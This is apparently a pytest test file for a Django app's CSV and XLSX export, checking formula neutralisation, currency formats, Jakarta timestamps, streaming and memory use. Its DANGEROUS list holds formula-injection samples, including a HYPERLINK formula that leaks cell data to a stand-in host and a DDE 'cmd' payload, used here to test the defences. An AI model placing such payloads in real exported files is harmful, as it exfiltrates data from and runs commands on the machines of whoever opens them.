"""What leaves as a file opens in a spreadsheet with every rupiah and every letter, and nothing in it runs."""

import csv
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from xml.etree import ElementTree
from zipfile import BadZipFile, ZipFile

import pytest
from django.http import StreamingHttpResponse
from django.test.client import closing_iterator_wrapper
from django.utils.functional import lazystr

from bekal.core.text import FORMULA_STARTS
from bekal.ui import tables_out, workbook
from bekal.ui.tables_out import csv_response, xlsx_response

INSTANT = datetime(2021, 3, 24, 17, 5, tzinfo=UTC)  # past midnight in Jakarta
DANGEROUS = [
    '=HYPERLINK("http://jahat.test?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NAMES = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def content(response: StreamingHttpResponse) -> bytes:
    """Everything it sends; closed as the test client does it, which leaves the database alone."""
    return b"".join(closing_iterator_wrapper(response.streaming_content, response.close))  # type: ignore[arg-type]


def csv_rows(response: StreamingHttpResponse) -> list[list[str]]:
    text = content(response).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:], newline="")))


def sheets(response: StreamingHttpResponse) -> list[list[dict[str, tuple[str, str]]]]:
    """Every sheet as rows of {column letter: (type, text)}."""
    book = ZipFile(BytesIO(content(response)))
    found = []
    for name in sorted(each for each in book.namelist() if each.startswith("xl/worksheets/sheet")):
        assert b"<f>" not in book.read(name)
        rows = ElementTree.fromstring(book.read(name)).findall(".//s:sheetData/s:row", NAMES)
        found.append([dict(_cell(cell) for cell in row) for row in rows])
    return found


def _cell(cell: ElementTree.Element) -> tuple[str, tuple[str, str]]:
    column = re.sub("[0-9]", "", cell.attrib["r"])
    return column, (cell.attrib.get("t", "n"), "".join(cell.itertext()))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_run_is_made_safe_in_csv_and_stays_itself_in_xlsx(text: str) -> None:
    [_, [cell]] = csv_rows(csv_response(name="x", header=["isi"], rows=[[text]]))
    assert cell == f"'{text}"
    [[_title, _header, row]] = sheets(xlsx_response(name="x", title="T", header=["isi"], rows=[[text]]))
    kind, shown = row["A"]
    assert kind == "inlineStr"
    assert shown.replace("_x000D_", "\r") == text


def test_headers_and_titles_run_no_more_than_cells() -> None:
    assert csv_rows(csv_response(name="x", header=["=1+1"], rows=[])) == [["'=1+1"]]
    [[title, header]] = sheets(xlsx_response(name="x", title="=1+1", header=["@A1"], rows=[]))
    assert (title["A"], header["A"]) == (("inlineStr", "=1+1"), ("inlineStr", "@A1"))


def test_amounts_are_bare_digits_in_csv() -> None:
    rows = csv_rows(csv_response(name="x", header=["jumlah"], rows=[[639_000_000_000], [-50], [0], [None]]))
    assert rows == [["jumlah"], ["639000000000"], ["-50"], ["0"], [""]]


def test_amounts_are_numbers_with_a_format_in_xlsx() -> None:
    response = xlsx_response(
        name="x", title="T", header=["n", "jumlah"], rows=[[7, 639_000_000_000], [7, -50]], rupiah_columns=[1]
    )
    book = BytesIO(content(response))
    styles = ZipFile(book).read("xl/styles.xml").decode()
    sheet = ElementTree.fromstring(ZipFile(book).read("xl/worksheets/sheet1.xml"))
    cells = {cell.attrib["r"]: cell for cell in sheet.iter(f"{{{NAMES['s']}}}c")}
    assert ["".join(cells[place].itertext()) for place in ("B3", "B4")] == ["639000000000", "-50"]
    assert "t" not in cells["B3"].attrib
    assert "Rp" in styles
    assert cells["A3"].attrib["s"] != cells["B3"].attrib["s"] == cells["B4"].attrib["s"]


def test_a_number_a_spreadsheet_would_round_is_a_text() -> None:
    [[_title, _header, *rows]] = sheets(
        xlsx_response(name="x", title="T", header=["n"], rows=[[999_999_999_999_999], [1_000_000_000_000_001]])
    )
    assert [row["A"] for row in rows] == [("n", "999999999999999"), ("inlineStr", "1000000000000001")]


def test_days_and_instants_are_those_of_jakarta() -> None:
    row = [date(2021, 3, 25), INSTANT, lazystr("Demo"), True]
    assert csv_rows(csv_response(name="x", header=["a"] * 4, rows=[row]))[1][:2] == [
        "2021-03-25",
        "2021-03-25T00:05:00+07:00",
    ]
    [[_title, _header, cells]] = sheets(xlsx_response(name="x", title="T", header=["a"] * 4, rows=[row]))
    kind, serial = cells["A"]
    assert (kind, int(serial)) == ("n", (date(2021, 3, 25) - date(1899, 12, 30)).days)
    assert float(cells["B"][1]) == pytest.approx(int(serial) + 5 / 1440)
    assert cells["C"] == ("inlineStr", "Demo")
    assert cells["D"][0] == "inlineStr"


def test_any_text_survives_or_is_marked() -> None:
    odd = 'Ánh "Si; A", \n baris\ud800'
    [_, [cell]] = csv_rows(csv_response(name="x", header=["a"], rows=[[odd]]))
    assert cell == odd.replace("\ud800", "?")
    rows = [[odd], ["x" * 40_000]]
    [[_title, _header, first, second]] = sheets(xlsx_response(name="x", title="T", header=["a"], rows=rows))
    assert first["A"][1] == odd.replace("\ud800", "?")
    assert len(second["A"][1]) == workbook.CELL_CHARACTERS


def test_a_table_longer_than_a_sheet_goes_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "SHEET_ROWS", 4)
    found = sheets(xlsx_response(name="x", title="T", header=["n"], rows=[[number] for number in range(5)]))
    assert [[row["A"][1] for row in sheet] for sheet in found] == [
        ["T", "n", "0", "1"],
        ["T", "n", "2", "3"],
        ["T", "n", "4"],
    ]


def test_a_download_has_its_name_and_is_not_kept_by_anybody() -> None:
    for response, name in (
        (csv_response(name="lembaga", header=["a"], rows=[]), 'attachment; filename="lembaga.csv"'),
        (xlsx_response(name="lembaga", title="T", header=["a"], rows=[]), 'attachment; filename="lembaga.xlsx"'),
    ):
        assert (response["Content-Disposition"], response["Cache-Control"]) == (name, "no-store")
        content(response)


def peak_bytes(row_count: int) -> int:
    def rows() -> Iterator[list[object]]:
        for number in range(row_count):
            yield [number, "Pelatihan dengan nama yang panjang", 3_550_000, INSTANT]

    tracemalloc.start()
    for _piece in csv_response(name="x", header=["a"] * 4, rows=rows()):
        pass
    content(xlsx_response(name="x", title="T", header=["a"] * 4, rows=rows(), rupiah_columns=[2]))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


def test_memory_does_not_grow_with_the_table() -> None:
    peak_bytes(10)
    assert peak_bytes(8_000) < peak_bytes(1_000) + 200_000


def test_the_first_piece_leaves_before_the_last_row_is_made() -> None:
    made = 0

    def rows() -> Iterator[list[object]]:
        nonlocal made
        for made in range(1, 100_000):
            yield [made]

    response = csv_response(name="x", header=["n"], rows=rows())
    assert bytes(next(iter(response))).startswith("\ufeffn\r\n1\r\n".encode())  # type: ignore[arg-type, union-attr]
    assert made == tables_out.PIECE_ROWS


def test_a_table_that_fails_is_an_error_and_no_half_workbook() -> None:
    """What was sent by then does not open: its end, without which nothing is found in it, is missing."""

    def rows() -> Iterator[list[object]]:
        for number in range(3 * workbook.PIECE_ROWS):
            yield [number, number]
        raise RuntimeError("the database went away")

    sent: list[bytes] = []
    response = xlsx_response(name="x", title="T", header=["n", "m"], rows=rows())
    with pytest.raises(RuntimeError, match="went away"):
        sent.extend(bytes(piece) for piece in response)  # type: ignore[arg-type]
    assert sum(map(len, sent)) > 0
    with pytest.raises(BadZipFile):
        ZipFile(BytesIO(b"".join(sent)))


def test_a_workbook_leaves_piece_by_piece_too() -> None:
    made = 0

    def rows() -> Iterator[list[object]]:
        nonlocal made
        for made in range(1, 100_000):
            yield [made, f"peserta {made * 7919 % 100_003}"]

    response = xlsx_response(name="x", title="T", header=["n", "siapa"], rows=rows())
    assert bytes(next(iter(response))).startswith(b"PK")  # type: ignore[arg-type, call-overload]
    assert made <= workbook.PIECE_ROWS + 1


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a\x00b", "a_x0000_b"),
        ("a\x0bb\uffff", "a_x000B_b_xFFFF_"),
        ("_x000D_", "_x005F_x000D_"),
        ("_x1_ & <b> \"'", "_x1_ & <b> \"'"),
    ],
)
def test_what_xml_cannot_hold_is_written_as_spreadsheets_read_it(text: str, written: str) -> None:
    [[_title, _header, row]] = sheets(xlsx_response(name="x", title="T", header=["a"], rows=[[text]]))
    assert row["A"] == ("inlineStr", written)


def test_many_columns_have_the_letters_of_a_spreadsheet() -> None:
    [[_title, header, row]] = sheets(
        xlsx_response(name="x", title="T", header=["a"] * 703, rows=[[None, *range(1, 703)]])
    )
    assert list(header)[24:28] == ["Y", "Z", "AA", "AB"] and list(header)[-2:] == ["ZZ", "AAA"]
    assert "A" not in row and row["AAA"] == ("n", "702")


def test_what_starts_a_formula_is_the_list_auditors_know() -> None:
    assert set("=+-@\t\r") == set(FORMULA_STARTS)
